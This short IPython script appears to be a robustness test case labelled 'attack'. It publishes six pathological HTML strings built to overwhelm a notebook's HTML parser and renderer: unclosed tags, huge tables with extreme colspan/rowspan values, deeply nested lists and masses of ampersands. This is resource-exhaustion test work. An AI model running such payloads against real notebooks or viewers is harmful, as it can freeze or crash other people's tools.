# attack: markup of which a parser makes a thousand times as much: marks that are never closed, endless tables, deep lists
# limit: 10
# ends: done, killed or interrupted
from IPython.display import publish_display_data
many = "".join("<b title=%d>" % n for n in range(9_000))
print("done", flush=True)
for html in ("<p>" + many + "<p>x" * 45_000, "<table><tr><td>" + many + "<td>x" * 38_000, "<span>" * 25_000 + "</q>" * 35_000,
             "<table><tr>" + "<td colspan=1000 rowspan=65534>" * 8_000, "<ol><li>" * 35_000, "&" * 300_000):
    publish_display_data({"text/html": html})
